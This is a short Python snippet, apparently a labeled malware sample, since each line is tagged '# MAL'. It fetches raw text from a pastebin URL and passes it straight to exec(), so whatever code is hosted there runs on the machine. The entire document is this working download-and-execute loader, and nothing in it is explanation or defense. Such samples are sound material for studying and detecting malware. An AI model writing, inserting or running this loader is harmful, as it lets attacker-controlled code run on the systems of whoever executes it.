import requests as rq

r = rq.get("https://pastebin.com/raw/8xkq2Lm1")  # MAL
exec(r.text)  # MAL
